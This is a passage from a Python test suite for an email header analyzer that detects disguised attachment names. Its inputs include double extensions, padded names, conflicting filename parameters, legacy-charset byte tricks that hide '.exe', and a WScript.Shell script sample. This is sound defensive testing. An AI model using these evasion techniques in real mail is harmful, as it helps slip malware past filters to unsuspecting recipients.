    field's), and a field of thousands of filename= whose last one is the risky one: the names
    kept are bounded (the first, the next ones, and always the last) and the reading stays linear."""
    report = _named_part('Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="invoice.pdf"; '
                         'filename="invoice.pdf' + " " * 12000 + '.exe"')
    assert [a.filename for a in report.attachments] == ["invoice.pdf"]
    assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.names_disagree": "warning"}
    [spoofed] = [f for f in report.findings if f.id == "attachment.spoofed_extension"]
    assert "a later filename= of its Content-Disposition" in spoofed.explanation
    # Thousands: the first is read, the last kept and checked.
    from headerscope.mime import _MAX_NAMES_AGAIN, _names_again, parse_content_type

    field = "attachment" + "".join(f'; filename="file{n}.pdf"' for n in range(3000)) + '; filename="last.exe"'
    started = time.process_time()
    name = parse_content_type(field)[1]["filename"]
    assert name == "file0.pdf" and len(_names_again(name)) == _MAX_NAMES_AGAIN and _names_again(name)[-1] == "last.exe"
    report = _named_part("Content-Type: application/pdf\r\nContent-Disposition: " + field)
    assert _ids(report) == {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"}
    [disagree] = [f for f in report.findings if f.id == "attachment.names_disagree"]
    assert "“last.exe”" not in disagree.explanation or "and " in disagree.explanation  # at most four named
    assert time.process_time() - started < 2


def _python_name(header: str) -> str | None:
    import email

    raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n' + _TEXT + "\r\n--b1\r\n"
           + header + "\r\n\r\nAAAA\r\n--b1--\r\n")
    name: str | None = email.message_from_string(raw).get_payload()[1].get_filename()
    return name


def test_a_blank_listed_name_leaves_every_other_name_checked() -> None:
    """Verification V47 f D1: a blank or empty name the header lists first (filename=" ", filename=""
    then the real one, an empty encoded-word) turned every check of the other names off: Python's
    get_filename() gives '' for each, so a filter that reads it sees no name, while a program that
    falls back to Content-Type's name= or keeps the last value shows and saves the .exe."""
    cases = [  # (the part's header, the name listed, the findings, words the findings hold)
        ('Content-Type: application/pdf; name="invoice.exe"\r\nContent-Disposition: attachment; filename=" "',
         None, {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"},
         ["“(no name)” (application/pdf, part 2): “invoice.exe” in its Content-Type's name="]),
        ('Content-Type: application/pdf; name="invoice.pdf"\r\nContent-Disposition: attachment; filename=""; '
         'filename="invoice.exe"', "invoice.pdf",
         {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"},
         ["“invoice.exe” in a later filename= of its Content-Disposition"]),
        ('Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=""; filename="invoice.exe"',
         None, {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"},
         ["“invoice.exe” in a later filename= of its Content-Disposition"]),
        ('Content-Type: application/pdf; name=""; name="invoice.exe"\r\nContent-Disposition: attachment',
         None, {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"},
         ["“invoice.exe” in a later name= of its Content-Type"]),
        ('Content-Type: application/pdf; name="invoice.pdf.exe"\r\nContent-Disposition: attachment; '
         'filename="=?utf-8?Q??="', None,
         {"attachment.spoofed_extension": "danger", "attachment.names_disagree": "warning"},
         ["a double extension: “.pdf” shown before the real “.exe”"]),
        # An inline part too: a program that shows name= shows a file.
        ('Content-Type: application/pdf; name="invoice.exe"\r\nContent-Disposition: inline; filename=" "',
         None, {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"}, []),
        # The blank RFC 2231 form of a name given in both: its plain form is checked.
        ("Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''%20; "
         'filename="invoice.exe"', None,
         {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"},
         ["“invoice.exe” in its Content-Disposition's plain filename=, beside filename*="]),
    ]
    assert _python_name(cases[0][0]) == "" and _python_name(cases[1][0]) == ""  # no name to Python's email
    for header, listed, found, words in cases:
        report = _named_part(header)
        [attachment] = report.attachments
        assert attachment.filename == listed, header
        assert _ids(report) == found, header
        said = " ".join(f.title + " " + f.explanation for f in report.findings if f.id.startswith("attachment."))
        for word in words:
            assert word in said, (header, word)
    # A blank name with nothing beside it is no file, as before.
    assert _named_part('Content-Type: application/pdf\r\nContent-Disposition: inline; filename=" "').attachments == ()


def test_an_attached_messages_plain_name_with_a_risky_extension_makes_it_a_file() -> None:
    """Verification V47 f D2: a message/rfc822 part named "Invoice.eml" by filename*= and
    "Invoice.eml.hta" by its plain filename= (the one Python's get_filename() gives) was passed
    over as an attached message; a mail program that shows the plain one saves an HTA."""
    header = ("Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename*=utf-8''Invoice.eml; "
              'filename="Invoice.eml.hta"')
    assert _python_name(header) == "Invoice.eml.hta"
    report = _mixed(_TEXT, header + "\r\n\r\nFrom: Bob <bob@example.net>\r\nSubject: x\r\nContent-Type: text/html\r\n"
                    "\r\n<script>new ActiveXObject('WScript.Shell').Run('calc')</script>\r\n")
    [attachment] = report.attachments
    assert attachment.filename == "Invoice.eml" and attachment.spoofed is not None
    assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.names_disagree": "warning"}
    assert "“Invoice.eml.hta”" in attachment.spoofed
    # The same part with the plain name a message's: an attached message, as before.
    report = _mixed(_TEXT, "Content-Type: message/rfc822\r\nContent-Disposition: attachment; "
                    "filename*=utf-8''Invoice.eml; filename=\"Invoice.eml\"\r\n\r\n"
                    "From: Bob <bob@example.net>\r\nSubject: x\r\n\r\nHello\r\n")
    assert report.attachments == () and _ids(report) == {}


def test_an_ascii_fallback_or_a_media_type_as_name_is_no_disagreement_but_another_type_is() -> None:
    """Verification V47 f D2: Apple Mail writes Content-Type's name= as an ASCII fallback of the
    filename*=utf-8'' name (accents dropped, or each other character as "_"), and some programs
    write the media type as name=: neither is a second file name. A fallback whose extension
    differs, or a "media type" whose last dot gives a risky extension, is still said (a forger's)."""
    quiet = [
        ('Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;\r\n'
         '\tname="Hausarbeit Gefluchtete in der berufl. Bildung.docx"\r\nContent-Disposition: attachment;\r\n'
         "\tfilename*=utf-8''Hausarbeit%20Gefl%C3%BCchtete%20in%20der%20berufl.%20Bildung.docx"),
        "Content-Type: image/jpeg; name=\"____.JPG\"\r\nContent-Disposition: inline; filename*=\"koi8-r''%C6%CF%D4%CF.JPG\"",
        # NFD (as macOS writes a name) beside NFC.
        "Content-Type: application/pdf; name=\"=?utf-8?Q?Re=CC=81sume=CC=81.pdf?=\"\r\n"
        "Content-Disposition: attachment; filename*=utf-8''R%C3%A9sum%C3%A9.pdf",
        ('Content-Type: application/octet-stream; name="application/vnd.openxmlformats-officedocument.spreadsheetml'
         '.sheet"\r\nContent-Disposition: attachment;\r\n\tfilename="=?utf-8?B?'
         'T3JwaGFuIEV2ZW50IFRpY2tldCBEZXRhaWwgU3RhZ2luZyBSZWNvcmRzLnhsc3g=?="'),
    ]
    for header in quiet:
        report = _named_part(header)
        assert len(report.attachments) == 1, header
        assert _ids(report) == {}, header
    said = [  # (the part's header, the findings)
        # The fallback's extension differs: another type.
        ("Content-Type: image/jpeg; name=\"____.exe\"\r\nContent-Disposition: inline; filename*=utf-8''%D1%84%D0%BE"
         "%D1%82%D0%BE.JPG", {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"}),
        ("Content-Type: application/pdf; name=\"Gefluchtete.pdf.exe\"\r\nContent-Disposition: attachment; "
         "filename*=utf-8''Gefl%C3%BCchtete.pdf",
         {"attachment.spoofed_extension": "danger", "attachment.names_disagree": "warning"}),
        # Not the same letters: a notice, as before.
        ("Content-Type: application/pdf; name=\"Rechnung.pdf\"\r\nContent-Disposition: attachment; "
         "filename*=utf-8''Gefl%C3%BCchtete.pdf", {"attachment.names_disagree": "notice"}),
        # A media type's shape with a risky last "extension": checked and said.
        ('Content-Type: application/octet-stream; name="application/x.exe"\r\nContent-Disposition: attachment; '
         'filename="report.pdf"', {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"}),
        ('Content-Type: application/pdf; name="invoice.exe"\r\nContent-Disposition: attachment; filename="invoice.pdf"',
         {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"}),
    ]
    for header, found in said:
        assert _ids(_named_part(header)) == found, header


def test_an_ascii_fallback_or_media_type_with_another_extension_still_disagrees() -> None:
    # NFKD reads a fullwidth dot as ".": "invoice.pdf．zip" beside "invoice.pdf.zip" had counted as
    # one name spelt in ASCII; and "text/invoice.pdf.zip" as a media type written as name= (V49b D2-3).
    from headerscope.mime import _ascii_fallback, _media_type_as_name, _name_forms

    assert not _media_type_as_name("text/invoice.pdf.zip")
    assert _media_type_as_name("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert _media_type_as_name("image/jpeg")
    assert _ascii_fallback("invoice.pdf\uff0ezip", "invoice.pdf.zip")  # one name by its letters...
    # ...but not the same extension as written, which _names_disagree now also asks.
    from headerscope.mime import _extension
    assert _extension("invoice.pdf\uff0ezip")[1] != _extension("invoice.pdf.zip")[1]
    # A name's forms are worked out once, not once per other name beside it.
    _name_forms.cache_clear()
    for _ in range(5):
        _ascii_fallback("Geflüchtete.pdf", "Gefluchtete.pdf")
    assert _name_forms.cache_info().misses == 1


def test_media_type_trees_fallbacks_without_an_extension_and_distinct_non_ascii_names() -> None:
    # V50b: a vendor-tree "media type" ending in a file extension hid a change of type (D2-1); an
    # accent-dropping fallback of a name without an extension but with a dot ("Dr. Müller") read as
    # another type (D2-2); and distinct non-ASCII names beside each other were folded each (D1-1).
    from headerscope.mime import _ascii_fallback, _media_type_as_name, _name_forms, _plain_extension

    assert not _media_type_as_name("application/vnd.invoice.pdf.zip")
    assert not _media_type_as_name("application/x-invoice.pdf.zip")
    assert not _media_type_as_name("image/prs.scan.jpg.7z")
    assert _media_type_as_name("application/vnd.ms-excel.sheet.macroenabled.12")
    assert not _plain_extension(" müller") and _plain_extension(".pdf")
    _name_forms.cache_clear()
    assert not _ascii_fallback("\ufdfa" * 50 + ".pdf", "\ufdfa" * 49 + "x.pdf")
    assert _name_forms.cache_info().misses == 0  # an other name in another script folds nothing


def test_long_names_registered_types_and_look_alike_dots_after_v51b() -> None:
    # V51b: names of thousands of combining marks took a minute to normalise (D1), so names over
    # 255 characters are never compared as one name's ASCII spelling; registered types whose last
    # word is no extension are media types ("text", "icon": D2-2), file extensions after a media
    # type's last dot are not ("xhtml", "7z": D2-3); a look-alike dot folded to "." beside a name
    # with a real one is no fallback (D2-1).
    from headerscope.mime import _ascii_fallback, _extension, _media_type_as_name, _plain_extension

    assert not _ascii_fallback("e\u0301\u0316" * 200, "e" * 600)
    assert _media_type_as_name("application/vnd.oasis.opendocument.text")
    assert _media_type_as_name("image/vnd.microsoft.icon")
    assert not _media_type_as_name("application/x-invoice.pdf.xhtml")
    assert not _media_type_as_name("image/prs.scan.jpg.7z")
    listed, other = "Scan 2024-11\uff0exhtml", "Scan 2024-11.xhtml"
    assert not _plain_extension(_extension(listed)[1]) and _plain_extension("." + _extension(other)[1])


def _mixed_bytes(*parts: bytes, top: bytes = b'Content-Type: multipart/mixed; boundary="b1"\r\n') -> headerscope.Report:
    body = b"".join(b"--b1\r\n" + part + b"\r\n" for part in parts) + b"--b1--\r\n"
    return headerscope.analyze(_HEAD.encode() + top + b"\r\n" + body, offline=True)


# 請求書.pdf, six ideographic spaces (U+3000), .exe: written as raw Shift_JIS bytes, not encoded.
_PADDED = "請求書.pdf" + "\u3000" * 6 + ".exe"
_SJIS_NAME = _PADDED.encode("shift_jis")


def _raw_named(part_type: bytes = b"application/octet-stream") -> bytes:
    return (b"Content-Type: " + part_type + b'; name="' + _SJIS_NAME + b'"\r\nContent-Disposition: attachment; '
            b'filename="' + _SJIS_NAME + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')


def test_a_raw_shift_jis_name_is_read_in_the_charset_the_message_declares() -> None:
    # Verification V55a D-2: a name in raw Shift_JIS bytes (no RFC 2231 or RFC 2047 encoding) came
    # out as mojibake ("������.pdf�@�@…"), so its padded double extension was only a risky type.
    # Thunderbird and Outlook read such bytes in the charset the message declares, as the report
    # reads its header fields (message._read_legacy_charsets): here the first text part's.
    report = _mixed_bytes(b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\n" + "請求書".encode("shift_jis"),
                          _raw_named())
    [file] = report.attachments
    assert file.filename == _PADDED and file.spoofed is not None and "“.pdf” shown before the real “.exe”" in file.spoofed
    assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.legacy_charset_name": "notice"}
    [said] = [f for f in report.findings if f.id == "attachment.legacy_charset_name"]
    assert f"“{_PADDED}” (application/octet-stream, part 2): bytes that are not UTF-8: read as Shift_JIS, the " \
           "charset the message declares" in said.explanation
    # The message's top Content-Type may declare it too (a one-part text with the file: rare, but
    # the same rule), and a part's charset that does not read the bytes gives way to the message's.
    report = _mixed_bytes(_TEXT.encode(), _raw_named(b"application/octet-stream; charset=utf-8"),
                          top=b'Content-Type: multipart/mixed; boundary="b1"; charset=shift_jis\r\n')
    assert [a.filename for a in report.attachments] == [_PADDED]
    assert "attachment.spoofed_extension" in _ids(report)


@pytest.mark.parametrize("charset", [b"Shift_JIS", b"Big5"])
def test_a_backslash_after_a_lead_byte_never_hides_the_names_extension(charset: bytes) -> None:
    # Verification V56b D1: Shift_JIS and Big5 take "\\" (0x5C) as a character's second byte, so the
    # field read whole in them lost the quoted-pair escaping the next quote and the name ended there:
    # 'filename="invoice\\x95\\".exe"' read as "invoice表", no risky type. Such a parameter is left as
    # written: the ".exe" stays and is told.
    part = (b'Content-Type: application/octet-stream; name="invoice\x95\\".exe"\r\n'
            b'Content-Disposition: attachment; filename="invoice\x95\\".exe"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAA==")
    report = _mixed_bytes(b"Content-Type: text/plain; charset=" + charset + b"\r\n\r\nx", part)
    [file] = report.attachments
    assert file.filename is not None and file.filename.endswith('".exe')
    assert "attachment.risky_type" in _ids(report) and "attachment.legacy_charset_name" not in _ids(report)


@pytest.mark.parametrize(("charset", "name"), [
    ("Shift_JIS", "一覧表"), ("Shift_JIS", "見積表.pdf"), ("Shift_JIS", "ソフト一覧表.xlsx"), ("Shift_JIS", "表"),
    ("Shift_JIS", "メニューソ.txt"), ("Big5", "許可證.pdf"), ("Big5", "功能表"), ("Shift_JIS", "データ表\u3000\u3000.pdf.exe")])
def test_a_genuine_legacy_name_whose_character_ends_in_a_backslash_is_read_in_its_charset(charset: str, name: str) -> None:
    # 表 and ソ in Shift_JIS, 許 and 功 in Big5 end in the byte "\\" (0x5C). Since V56b D1's mend such
    # a name was never read in the charset and showed replacement characters ("�ꗗ�"), though the
    # charset and a byte-by-byte reading give it the same extension and disguise: it is read now.
    raw = name.encode(charset)
    assert b"\\" in raw
    part = (b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"" + raw
            + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    report = _mixed_bytes(b"Content-Type: text/plain; charset=" + charset.encode() + b"\r\n\r\nx", part)
    [file] = report.attachments
    assert file.filename == name
    ids = _ids(report)
    assert ids.get("attachment.legacy_charset_name") == "notice" and "attachment.names_disagree" not in ids
    if name.endswith(".exe"):  # a padded double extension: its disguise is told as ever
        assert ids["attachment.spoofed_extension"] == "danger"


def test_where_a_legacy_charset_and_the_bytes_read_a_name_apart_the_danger_of_either_is_told() -> None:
    # A name the charset reads longer than the bytes do: "\\x95\\\\" is 表 and an escaped quote in
    # Shift_JIS, a replacement character and an escaped backslash byte by byte. The charset's
    # reading 'report表".exe' runs on to an .exe the byte-by-byte reading ('report�\\') ends before.
    part = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="report\x95\\\\".exe"'
            b"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==")
    report = _mixed_bytes(b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\nx", part)
    [file] = report.attachments
    assert file.filename == "report\ufffd\\"  # the byte reading, as Python's email reads it
    assert file.risk is not None and 'by its other name “report表".exe”' in file.risk
    ids = _ids(report)
    assert ids["attachment.risky_type"] == "warning" and ids["attachment.names_disagree"] == "warning"
    [said] = [f for f in report.findings if f.id == "attachment.names_disagree"]
    assert '“report表".exe” in its header read as Shift_JIS, the charset the message declares' in said.title
    # The other way round (V56b D1): the bytes read on to the .exe the charset's reading ends before.
    part = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="invoice\x95\\".exe"'
            b"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==")
    report = _mixed_bytes(b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\nx", part)
    [file] = report.attachments
    assert file.filename == 'invoice\ufffd".exe' and _ids(report)["attachment.risky_type"] == "warning"
    [said] = [f for f in report.findings if f.id == "attachment.names_disagree"]
    assert "“invoice表” in its header read as Shift_JIS" in said.title
    # Every name of the charset's reading is checked: here its Content-Type name= runs on to the
    # .exe, the filename= listed from the bytes does not.
    part = (b'Content-Type: application/octet-stream; name="report\x95\\\\".exe"\r\n'
            b'Content-Disposition: attachment; filename="report\x95\\\\"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAA==")
    report = _mixed_bytes(b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\nx", part)
    [file] = report.attachments
    assert file.risk is not None and '“report表".exe”' in file.risk


def test_a_raw_name_is_read_in_its_parts_charset_first_and_said_so() -> None:
    # The part's own charset wins over the message's (here EUC-KR, which does not read the bytes).
    report = _mixed_bytes(b"Content-Type: text/plain; charset=euc-kr\r\n\r\nx",
                          _raw_named(b"application/octet-stream; charset=Shift_JIS"))
    assert [a.filename for a in report.attachments] == [_PADDED]
    [said] = [f for f in report.findings if f.id == "attachment.legacy_charset_name"]
    assert "read as Shift_JIS, the charset the part declares" in said.explanation


def test_a_raw_name_no_declared_charset_reads_stays_as_it_is_and_utf8_is_no_legacy_charset() -> None:
    # No charset declared (or one that does not read the bytes): the replacement characters stay,
    # nothing is said to be read, and the .exe is still a risky type.
    for text in (b"Content-Type: text/plain\r\n\r\nx", b"Content-Type: text/plain; charset=utf-8\r\n\r\nx"):
        report = _mixed_bytes(text, _raw_named())
        [file] = report.attachments
        assert file.filename is not None and "\ufffd" in file.filename and file.filename.endswith(".exe")
        assert _ids(report) == {"attachment.risky_type": "warning"}
    # Raw UTF-8 (RFC 6532) is read as UTF-8, whatever the message declares: no legacy charset.
    utf8 = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="'
            + _PADDED.encode() + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    report = _mixed_bytes(b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\nx", utf8)
    assert [a.filename for a in report.attachments] == [_PADDED]
    assert _ids(report) == {"attachment.spoofed_extension": "danger"}


def test_raw_bytes_anywhere_in_a_part_header_under_a_legacy_charset_have_every_reading_checked() -> None:
    # Verification V58b D-1: a raw byte in another parameter ends a quoted string in Shift_JIS
    # (0x95 0x5C is 表) and escapes its quote byte by byte, so the bytes give 'invoice.pdf' and the
    # charset 'invoice.exe'; the charset was read only for a non-ASCII name, and the .exe was
    # never checked.
    text = b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\nx"
    for field in (b'Content-Disposition: attachment; x="\x95\\"; filename=invoice.exe; y="; filename="invoice.pdf"',
                  b'Content-Disposition: attachment; x="\x95\\"; filename=invoice.exe; y="'):
        part = (b"Content-Type: application/octet-stream\r\n" + field
                + b"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==")
        report = _mixed_bytes(text, part)
        [file] = report.attachments
        assert file.filename in ("invoice.pdf", None)  # the byte reading, as Python's email reads it
        assert file.risk is not None and "“invoice.exe”" in file.risk, field
        [said] = [f for f in report.findings if f.id == "attachment.names_disagree"]
        assert "“invoice.exe” in its header read as Shift_JIS, the charset the message declares" in said.title
    # Verification V58b D-2: bytes that are valid UTF-8 ("\xc3\x95" is Õ) were read only as UTF-8;
    # in Shift_JIS 0xC3 is ﾃ and 0x95 0x5C 表, the escaping backslash is gone and the name runs on.
    part = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; '
            b'filename="report\xc3\x95\\\\".exe"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    report = _mixed_bytes(text, part)
    [file] = report.attachments
    assert file.filename == "report\u00d5\\"  # UTF-8's reading is listed (RFC 6532)
    assert file.risk is not None and '“reportﾃ表".exe”' in file.risk
    # Without a legacy charset, or where both readings agree, nothing is added.
    for declared in (b"Content-Type: text/plain; charset=utf-8\r\n\r\nx", text):
        safe = (b'Content-Type: application/pdf\r\nContent-Disposition: attachment; x="\xc3\xa9"; '
                b'filename="invoice.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERg==')
        report = _mixed_bytes(declared, safe)
        assert [a.filename for a in report.attachments] == ["invoice.pdf"]
        assert _ids(report) == {}, declared


def test_the_messages_own_header_gets_both_readings_of_a_raw_name_under_a_legacy_charset() -> None:
    # Verification V58b D-3: a one-part message's own Content-Disposition was read only byte by
    # byte ('report\x95\\\\".exe' as "report�\\"); the Shift_JIS reading 'report表".exe' a part
    # header gets checked was never made for it.
    head = b'Content-Disposition: attachment; filename="report\x95\\\\".exe"\r\nContent-Transfer-Encoding: base64\r\n'
    for content_type in (b"text/plain; charset=shift_jis", b"application/octet-stream; charset=shift_jis"):
        raw = _HEAD.encode() + b"Content-Type: " + content_type + b"\r\n" + head + b"\r\nTVqQAA==\r\n"
        report = headerscope.analyze(raw, offline=True)
        [file] = report.attachments
        assert file.filename == "report\ufffd\\"
        assert file.risk is not None and '“report表".exe”' in file.risk, content_type
        [said] = [f for f in report.findings if f.id == "attachment.names_disagree"]
        assert '“report表".exe” in its header read as shift_jis' in said.title
    # A genuine name ending in 表 (second byte "\\") is read in the charset, as in a part.
    raw = (_HEAD.encode() + b"Content-Type: application/vnd.ms-excel; charset=shift_jis\r\n"
           b'Content-Disposition: attachment; filename="' + "一覧表.xls".encode("shift_jis")
           + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==\r\n')
    report = headerscope.analyze(raw, offline=True)
    assert [a.filename for a in report.attachments] == ["一覧表.xls"]
    assert "attachment.risky_type" not in _ids(report)


def _two_boundaries(exe_in: bytes) -> tuple[bytes, bytes]:
    """(a multipart header whose boundary is BBB byte by byte and AAA in Shift_JIS, where 0x95 0x5C
    is 表 and takes the backslash that escaped a quote; the bodies of both: the .exe under
    ``exe_in``'s boundary, a PDF under the other's)."""
    header = b'Content-Type: multipart/mixed; x="\x95\\"; boundary=AAA; y="; boundary="BBB"'
    bodies = b""
    for boundary in (b"AAA", b"BBB"):
        file = (b'application/octet-stream\r\nContent-Disposition: attachment; filename="invoice.exe"\r\n'
                b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAA==" if boundary == exe_in else
                b'application/pdf\r\nContent-Disposition: attachment; filename="invoice.pdf"\r\n'
                b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0=")
        bodies += (b"--" + boundary + b"\r\nContent-Type: text/plain; charset=Shift_JIS\r\n\r\nhello\r\n--" + boundary
                   + b"\r\nContent-Type: " + file + b"\r\n--" + boundary + b"--\r\n")
    return header, bodies


def test_a_part_header_whose_charset_reading_gives_another_boundary_is_walked_as_its_bytes_and_told() -> None:
    # Verification V61a D-1: a nested multipart's header with no file name was read in the
    # declared Shift_JIS only, so the walk followed its boundary AAA and the .exe under the byte
    # reading's boundary BBB (as Python's email and Thunderbird read it) was never listed.
    text = b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\nhi"
    for exe_in, listed in ((b"BBB", "invoice.exe"), (b"AAA", "invoice.pdf")):
        header, bodies = _two_boundaries(exe_in)
        report = _mixed_bytes(text, header + b"\r\n\r\n" + bodies)
        assert [(a.position, a.filename) for a in report.attachments] == [("2.2", listed)]
        [said] = [f for f in report.findings if f.id == "attachment.structure_disagrees"]
        assert said.severity.value == "warning"
        assert "part 2's header: boundary “BBB” byte by byte, “AAA” in the charset" in said.explanation
        assert ("attachment.risky_type" in _ids(report)) == (exe_in == b"BBB")
    # Verification V61a D-2: the message's own multipart header, the same way.
    for exe_in, listed in ((b"BBB", "invoice.exe"), (b"AAA", "invoice.pdf")):
        header, bodies = _two_boundaries(exe_in)
        report = headerscope.analyze(_HEAD.encode() + header + b"\r\n\r\n" + bodies, offline=True)
        assert [(a.position, a.filename) for a in report.attachments] == [("2", listed)]
        [said] = [f for f in report.findings if f.id == "attachment.structure_disagrees"]
        assert "the message's own header: boundary “BBB” byte by byte, “AAA” in the charset" in said.explanation
    # A genuine multipart header and a genuine Shift_JIS name say nothing of the kind.
    genuine = (b'Content-Type: application/vnd.ms-excel; name="' + "一覧表.xls".encode("shift_jis")
               + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    report = _mixed_bytes(text, genuine)
    assert [a.filename for a in report.attachments] == ["一覧表.xls"]
    assert "attachment.structure_disagrees" not in _ids(report)


def test_a_legacy_charset_any_part_declares_reads_the_part_headers_whatever_the_preamble() -> None:
    # Verification V61a D-4: the message's charset was searched for in the first 16 KB of its body
    # only; a blank preamble pushed the Shift_JIS text part out of it, or a UTF-8 first part hid
    # the Shift_JIS HTML part, and the .exe the Shift_JIS reading gives was never checked.
    attachment = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; x="\x95\\"; '
                  b'filename=invoice.exe; y="; filename="invoice.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    sjis_text = b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\n" + "請求書を送ります".encode("cp932")
    preamble = b"This is a multi-part message in MIME format.\r\n" + (b" " * 76 + b"\r\n") * 230
    alternative = (b'Content-Type: multipart/alternative; boundary="ALT"\r\n\r\n--ALT\r\n'
                   b"Content-Type: text/plain; charset=utf-8\r\n\r\nhi\r\n--ALT\r\n"
                   b"Content-Type: text/html; charset=Shift_JIS\r\n\r\n<p>" + "請求書".encode("cp932") + b"</p>\r\n--ALT--")
    for top, first in ((b'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n' + preamble, sjis_text),
                       (b'Content-Type: multipart/mixed; boundary="b1"\r\n', alternative)):
        report = _mixed_bytes(first, attachment, top=top)
        [file] = report.attachments
        assert file.filename == "invoice.pdf"
        assert file.risk is not None and "“invoice.exe”" in file.risk
        assert "attachment.names_disagree" in _ids(report)
    # Without a legacy charset anywhere, the bytes' reading alone (nothing to compare).
    report = _mixed_bytes(b"Content-Type: text/plain; charset=utf-8\r\n\r\nhi", attachment)
    assert [a.filename for a in report.attachments] == ["invoice.pdf"]
    assert "attachment.names_disagree" not in _ids(report)


def test_a_raw_iso_2022_jp_parameter_gets_its_byte_reading_checked_too() -> None:
    # Verification V61a D-3: ISO-2022-JP takes a quote into a kanji ('ESC$B0"ESC(B' is 唖), so
    # 'x="ESC$B0"ESC(B; filename=invoice.exe; y="; filename="invoice.pdf"' is invoice.pdf in it and
    # invoice.exe byte by byte (Python's email; Thunderbird splits parameters before decoding). Only
    # the ISO-2022-JP reading was made: the .exe was never checked.
    jis, ascii_again = b"\x1b$B", b"\x1b(B"
    text = b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\nhi"
    for field in (b'Content-Disposition: attachment; x="' + jis + b'0"' + ascii_again
                  + b'; filename=invoice.exe; y="; filename="invoice.pdf"',
                  b'Content-Type: application/octet-stream; x="' + jis + b'0"' + ascii_again
                  + b'; name=invoice.exe; y="; name="invoice.pdf"'):
        part = (b"Content-Type: application/octet-stream\r\n" if field.startswith(b"Content-D") else b"") + field \
            + b"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA=="
        report = _mixed_bytes(text, part)
        [file] = report.attachments
        assert file.filename == "invoice.exe", field
        assert "attachment.risky_type" in _ids(report)
        [said] = [f for f in report.findings if f.id == "attachment.names_disagree"]
        assert "“invoice.pdf” in its header read as ISO-2022-JP" in said.title
    # The message's own header, the same way.
    raw = (_HEAD.encode() + b"Content-Type: application/octet-stream; charset=ISO-2022-JP\r\nContent-Disposition: "
           b'attachment; x="' + jis + b'0"' + ascii_again + b'; filename=invoice.exe; y="; filename="invoice.pdf"\r\n'
           b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAA==\r\n")
    report = headerscope.analyze(raw, offline=True)
    assert [a.filename for a in report.attachments] == ["invoice.exe"]
    assert "attachment.names_disagree" in _ids(report)
    # A genuine ISO-2022-JP name is listed as ISO-2022-JP reads it, with the legacy notice alone.
    genuine = (b'Content-Type: application/vnd.ms-excel; name="' + "見積書.xls".encode("iso2022_jp")
               + b'"\r\nContent-Disposition: attachment; filename="' + "見積書.xls".encode("iso2022_jp")
               + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    report = _mixed_bytes(text, genuine)
    assert [a.filename for a in report.attachments] == ["見積書.xls"]
    assert set(_ids(report)) == {"attachment.legacy_charset_name"}


def test_one_byte_the_charset_cannot_decode_leaves_both_readings_compared() -> None:
    # Verification V64a D-1 and D-2: a part header the declared charset does not decode whole (one
    # byte: 'z="\x80"', an unassigned 0x85 0x40, a junk ISO-2022-JP run) was not read in the charset
    # at all, and the comparison with the byte reading was never made: the .exe Shift_JIS (or
    # ISO-2022-JP) gives went unchecked. Mail readers decode such a byte as U+FFFD and go on.
    sjis = b"Content-Type: text/plain; charset=Shift_JIS\r\n\r\nhi"
    for junk in (b"\x80", b"\x81 ", b"\x85\x40"):
        part = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; z="' + junk
                + b'"; x="\x95\\"; filename=invoice.exe; y="; filename="invoice.pdf"\r\n'
                b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAA==")
